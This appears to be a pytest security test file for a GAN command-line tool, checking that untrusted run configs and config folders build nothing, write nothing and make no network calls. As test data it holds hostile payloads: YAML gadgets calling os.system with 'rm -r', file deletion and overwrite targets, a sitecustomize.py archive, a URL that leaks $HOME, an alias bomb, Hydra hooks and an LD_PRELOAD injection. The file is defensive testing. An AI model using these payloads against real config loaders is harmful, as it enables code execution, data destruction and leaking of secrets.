"""A configuration from a stranger: each place takes its own kind of part, and building it does nothing but build."""

import http.server
import importlib
import inspect
import pkgutil
import re
import shutil
import sys
import tempfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from helpers import SMALL_BATCHES, TINY_RING, composed, run_gan
from omegaconf import OmegaConf

import gan_cli
from gan_cli.config import slots
from gan_cli.config.paths import conf_dir
from gan_cli.config.schema import check
from gan_cli.config.targets import target
from gan_cli.systems.base import System
from gan_cli.utils.errors import GanError

# What the standard library and torch offer to an attacker, and what a config could name until version 0.2.
DANGEROUS = (
    "os.system", "os.remove", "shutil.rmtree", "subprocess.run", "builtins.eval", "pathlib.Path", "pathlib.PosixPath",
    "torch.load", "torch.save", "torch.hub.load", "torch.nn.Linear", "torch.nn.Sequential", "torch.nn.functional.relu",
    "torch.nn.functional.mse_loss", "torch.optim.LBFGS", "torch.optim.lr_scheduler.LambdaLR", "torch.nn.Module",
    "hydra.utils.instantiate", "omegaconf.OmegaConf.save", "tests.helpers.run_gan",
)  # fmt: skip
WRITES = ("os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.link", "os.symlink", "os.system", "os.exec", "os.chmod")
EVENTS = (*WRITES, "subprocess.Popen", "socket.connect", "socket.getaddrinfo", "urllib.Request", "shutil.rmtree")
watched: list[str] | None = None


def _audit(event: str, arguments: tuple[Any, ...]) -> None:
    if watched is not None and (event in EVENTS or (event == "open" and str(arguments[1]).strip("rb"))):
        watched.append(f"{event} {arguments[:1]}")


@contextmanager
def observed() -> Iterator[list[str]]:
    """The writes, processes and connections of the block."""
    global watched
    if not getattr(observed, "hooked", False):
        sys.addaudithook(_audit)  # for the rest of the process: it cannot be removed
        observed.hooked = True  # type: ignore[attr-defined]
    watched = found = []
    try:
        yield found
    finally:
        watched = None


def every_target() -> list[str]:
    """The dotted path of every public class and function of the package, and of what it imports."""
    paths = set(DANGEROUS)
    for module in pkgutil.walk_packages(gan_cli.__path__, "gan_cli."):
        if not module.name.endswith("__main__"):
            for name, value in vars(importlib.import_module(module.name)).items():
                if inspect.isclass(value) or inspect.isfunction(value):
                    paths.add(f"{module.name}.{name}")
    return sorted(paths)


def is_allowed(name: str) -> bool:
    """Whether a config may name the target at all."""
    with suppress(GanError):
        return inspect.isclass(target(name))
    return False


def places(value: Any, path: str = "") -> Iterator[tuple[Any, Any, str]]:
    """(container, key, path) of every value in a config."""
    for key in list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
        inner = f"{path}[{key}]" if isinstance(key, int) else f"{path}.{key}".lstrip(".")
        if not str(key).startswith("_"):
            yield value, key, inner
            yield from places(value[key], inner)


ROOMS = {
    "model": ("gan_cli.systems.", "gan_cli.networks.", "gan_cli.utils.random", "gan_cli.data.lab_color", "torch.nn."),
    "loss": ("gan_cli.losses.",),
    "dataset": ("gan_cli.data.",),
    "optimizer": ("torch.optim.",),
    "extractor": ("gan_cli.metrics.extractors", "gan_cli.metrics.classifier", "gan_cli.metrics.efficientnet"),
    "metric": ("gan_cli.metrics.",),
    "trainer": ("gan_cli.training.schedules",),
    "logger": ("gan_cli.training.loggers",),
}
"""Section -> the modules whose parts may stand anywhere in it."""


@pytest.mark.parametrize("model", ["mmd_gan", "gmmn_ae", "pix2pixhd"])
def test_every_place_takes_its_own_kind_and_no_other(model: str) -> None:
    """Every `_target_` there is, in every place of a config. Building what passes, data aside, touches nothing."""
    cfg = composed(f"model={model}", "metric=[fid]", "trainer/schedule=linear")
    plain: Any = {**OmegaConf.to_container(cfg, resolve=True), "evaluate": {"n": 1}, "expect": [1]}
    targets, accepted = [name for name in every_target() if is_allowed(name)], set()
    assert 300 < len(targets) < 0.5 * len(every_target())
    for container, key, path in list(places(plain)):
        before, section = container[key], re.split(r"[.\[]", path)[0]
        for name in targets:
            container[key] = {"_target_": name}
            try:
                found = next(node for node in slots.nodes(plain[section], section) if node.path == path)
            except GanError:
                continue
            finally:
                container[key] = before
            assert inspect.isclass(found.call), (path, name)
            assert found.call.__module__.startswith(ROOMS[section]) or name.startswith(ROOMS[section]), (path, name)
            whole = issubclass(found.call, System)  # a model within a model would be none of its networks
            assert whole == (path == "model"), (path, name)
            accepted.add((section, found.call))
    with observed() as events:
        for section, call in sorted(accepted, key=str):
            if section not in ("dataset", "extractor"):
                with suppress(TypeError, ValueError):  # it needs arguments
                    call()
    assert len(accepted) > 100 and not events


@pytest.mark.parametrize(
    "node",
    [
        {"_target_": "gan_cli.data.decoded_cache.remove", "path": "/home/you"},
        {"_target_": "gan_cli.metrics.feature_cache.save_whole", "value": {}, "path": "/home/you/.bashrc"},
        {"_target_": "gan_cli.data.folders.find_folder", "path": "/home/you", "url": "file:///tmp/a.zip"},
        {"_target_": "gan_cli.data.folders.ImageFolder", "root": "/home/you", "image_size": 16},
        {"_target_": "gan_cli.data.paired.PairedFolder", "root": "/home/you", "url": "file:///tmp/a.zip"},
        {"_target_": "gan_cli.metrics.classifier.Classifier"},
        {"_target_": "gan_cli.utils.files.write_text", "path": "/home/you/x", "text": "x"},
        {"_target_": "torch.optim.Adam", "params": []},
        {"_target_": "gan_cli.losses.penalties.GradientPenalty", "weight": {"_target_": "gan_cli.losses.penalties.R1"}},
        {"_target_": "gan_cli.losses.penalties.SumPenalty", "parts": [{"_target_": "gan_cli.data.shapes.Shapes"}]},
        {"_target_": "gan_cli.losses.penalties.R1", "_partial_": True},
        {"_target_": "gan_cli.losses.penalties.R1", "_partial_": -1},
        {"_target_": "gan_cli.losses.penalties.R1", "_recursive_": False},
        {"_target_": "gan_cli.losses.penalties.R1", "_args_": [1]},
        {"_target_": "gan_cli.losses.penalties.Penalty"},
    ],
    ids=lambda node: node["_target_"].rpartition(".")[2],
)
def test_a_penalty_is_a_penalty(node: dict[str, Any]) -> None:
    cfg = composed("model=wgan_gp")
    cfg.loss.penalty = node
    with observed() as events, pytest.raises(GanError, match=r"^(no key ')?loss\.penalty"):
        check(cfg)
    assert not events


# -- the run directory of a stranger


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("stranger")
    words = ["train", *TINY_RING, "trainer.iterations=2", *SMALL_BATCHES, "trainer.batch_size=8", "hydra.run.dir=run"]
    status, output = run_gan(words, folder)
    assert status == 0, output
    return folder / "run"


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """The address of a server of a stranger, and what it was asked for."""
    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_error(404)

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        threading.Thread(target=listening.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{listening.server_address[1]}", requests
        listening.shutdown()


def archive(path: Path) -> str:
    """The address of an archive that would be unpacked as a package of Python."""
    with zipfile.ZipFile(path, "w") as members:
        members.writestr("sitecustomize.py", "open('/tmp/executed', 'w')")
    return f"file://{path}"


VERBS = {
    "sample": ["n=2"],
    "evaluate": ["metric=modes", "n=50"],
    "resume": ["trainer.iterations=4"],
    "export": ["format=safetensors"],
    "translate": ["input=.", "output=out"],
    "compare": [],
}
ATTACKS = {
    "delete": "{_target_: gan_cli.data.decoded_cache.remove, path: VICTIM}",
    "delete_nested": "{_target_: gan_cli.data.decoded_cache.remove, path: "
    "{_target_: gan_cli.data.folders.find_folder, path: VICTIM, key: root}}",
    "tag": "{_target_: gan_cli.data.decoded_cache.remove, path: !!python/object/apply:pathlib.PosixPath [VICTIM]}",
    "system": "!!python/object/apply:os.system ['rm -r VICTIM']",
    "overwrite": "{_target_: gan_cli.metrics.feature_cache.save_whole, value: {a: 1}, "
    "path: !!python/object/apply:pathlib.PosixPath [VICTIM/precious.txt]}",
    "unpack": "{_target_: gan_cli.data.folders.find_folder, path: VICTIM/site-packages, url: URL, key: root}",
    "dataset": "{_target_: gan_cli.data.paired.PairedFolder, root: VICTIM/site-packages, url: URL, image_size: 16}",
    "leak": "{_target_: gan_cli.data.folders.find_folder, path: VICTIM/x, url: 'ADDRESS/${oc.env:HOME}', "
    "key: root}",
    "bomb": "[&a [x, x, x, x, x, x], &b [*a, *a, *a, *a, *a], &c [*b, *b, *b, *b, *b], [*c, *c, *c, *c, *c]]",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_strangers_config_does_nothing(
    attack: str, trained: Path, server: tuple[str, list[str]], tmp_path: Path
) -> None:
    """The attacks that succeeded until version 0.2: `penalty:` below `loss:` of config.yaml."""
    run, victim = tmp_path / "run", tmp_path / "victim"
    shutil.copytree(trained, run)
    victim.mkdir()
    (victim / "precious.txt").write_text("precious")
    node = ATTACKS[attack].replace("VICTIM", str(victim)).replace("URL", archive(tmp_path / "a.zip"))
    address, requests = server
    requests.clear()
    node = node.replace("ADDRESS", address)
    text = (run / "config.yaml").read_text()
    assert "\n  critic_steps: 1\n" in text
    (run / "config.yaml").write_text(text.replace("  critic_steps: 1\n", f"  critic_steps: 1\n  penalty: {node}\n"))
    for verb, words in VERBS.items():
        status, output = run_gan([verb, "run", *words], tmp_path)
        assert "Traceback" not in output, output
        assert status == 2 or verb == "compare", (verb, output)  # it builds nothing
    assert (victim / "precious.txt").read_text() == "precious" and len(list(victim.iterdir())) == 1
    assert not requests


@pytest.mark.parametrize("secret", ["secret", "${oc.env:HOME}"])
def test_a_strangers_archives_are_not_fetched(
    secret: str, trained: Path, server: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The data of a run, as archives of images on a server that only the run's config names."""
    monkeypatch.setenv("GAN_CACHE", str(tmp_path / "cache"))
    shutil.copytree(trained, tmp_path / "run")
    address, requests = server
    requests.clear()
    cfg: Any = OmegaConf.load(tmp_path / "run/config.yaml")
    cfg.dataset = OmegaConf.load(conf_dir() / "dataset/webdataset.yaml")
    cfg.dataset.update(image_size=8, root=f"{address}/{secret}/a.tar")
    (tmp_path / "run/config.yaml").write_text(OmegaConf.to_yaml(cfg))
    for verb, words in VERBS.items():
        status, output = run_gan([verb, "run", *words], tmp_path)
        assert "Traceback" not in output and (status == 2 or verb not in ("evaluate", "resume")), (verb, output)
    assert not requests


def test_hydras_own_files_in_a_run_are_never_read(trained: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(trained, run)
    for file in (run / ".hydra").glob("*.yaml"):
        file.write_text("!!python/object/apply:os.system ['touch executed']\n")
    for verb, words in (("sample", ["n=2"]), ("resume", ["trainer.iterations=4"]), ("compare", [])):
        status, output = run_gan([verb, "run", *words], tmp_path)
        assert status == 0, output
    assert not (tmp_path / "executed").exists()


# -- the configuration folder of a stranger

HOSTILE_HYDRA = {
    "callbacks": "callbacks: {a: {_target_: os.system, command: touch executed}}",
    "job_logging": "job_logging: {version: 1, handlers: {a: {'()': os.system, command: touch executed}}, "
    "root: {handlers: [a]}}",
    "log_file": "job_logging: {version: 1, handlers: {a: {class: logging.FileHandler, filename: executed}}, "
    "root: {handlers: [a]}}",
    "hydra_logging": "hydra_logging: {version: 1, handlers: {a: {'()': os.system, command: touch executed}}}",
    "environment": "job: {env_set: {LD_PRELOAD: /tmp/evil.so}}",
    "launcher": "launcher: {_target_: os.system, command: touch executed}",
    "sweeper": "sweeper: {_target_: os.system, command: touch executed}",
    "searchpath": "searchpath: ['pkg://antigravity']",
    "output": "output_subdir: ../../executed",
}


@pytest.mark.parametrize("attack", HOSTILE_HYDRA)
@pytest.mark.parametrize("sweep", [False, True])
def test_a_strangers_config_folder_does_not_change_hydra(attack: str, sweep: bool, tmp_path: Path) -> None:
    (tmp_path / "theirs" / "experiment").mkdir(parents=True)
    text = f"# @package _global_\nhydra:\n  {HOSTILE_HYDRA[attack]}\n"
    (tmp_path / "theirs" / "experiment" / "good.yaml").write_text(text)
    words = ["train", "--config-dir=theirs", "+experiment=good", *TINY_RING, "trainer.iterations=1"]
    status, output = run_gan([*words, *(["-m", "seed=0,1"] if sweep else [])], tmp_path)
    assert status == 2 and "Traceback" not in output and "hydra" in output, output
    assert not list(tmp_path.rglob("*executed*")) and not (tmp_path / "outputs").exists()


def test_a_config_folder_may_hold_what_a_training_needs(tmp_path: Path) -> None:
    (tmp_path / "mine" / "experiment").mkdir(parents=True)
    text = "# @package _global_\nseed: 7\nhydra:\n  run: {dir: here}\n  job: {name: mine}\n"
    (tmp_path / "mine" / "experiment" / "good.yaml").write_text(text)
    words = ["train", "--config-dir=mine", "+experiment=good", *TINY_RING, "trainer.iterations=1"]
    status, output = run_gan(words, tmp_path)
    assert status == 0 and (tmp_path / "here" / "provenance.json").exists(), output


def test_the_hook_notices_a_write() -> None:
    with observed() as events, tempfile.TemporaryFile("w") as file:
        file.write("x")
    assert events
